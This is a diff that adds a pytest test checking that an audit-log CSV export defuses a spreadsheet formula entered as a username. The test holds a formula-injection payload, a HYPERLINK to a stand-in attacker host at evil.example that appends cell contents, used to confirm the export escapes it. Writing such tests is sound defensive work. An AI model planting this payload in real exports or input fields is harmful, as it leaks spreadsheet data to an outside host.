@@ -386,3 +386,15 @@ def test_a_deliberate_wipe_of_the_whole_database_may_delete_the_trail(engine, ad
         pytest.raises(audit.AuditTampering),
     ):
         connection.execute(update(AuditEvent).values(actor="x"))
+
+
+def test_audit_export_defuses_a_formula_typed_as_username(engine, admin):
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    with pytest.raises(LoginRefused):
+        auth.authenticate(engine, formula, "whatever")
+    out = io.StringIO()
+    aq.write_csv(aq.iter_events(engine, admin, aq.AuditFilter(outcome="failed")), out)
+    import csv
+
+    (row,) = csv.DictReader(io.StringIO(out.getvalue()))
+    assert row["actor"].startswith("'=") and row["actor"][1:].lower() == formula.lower()
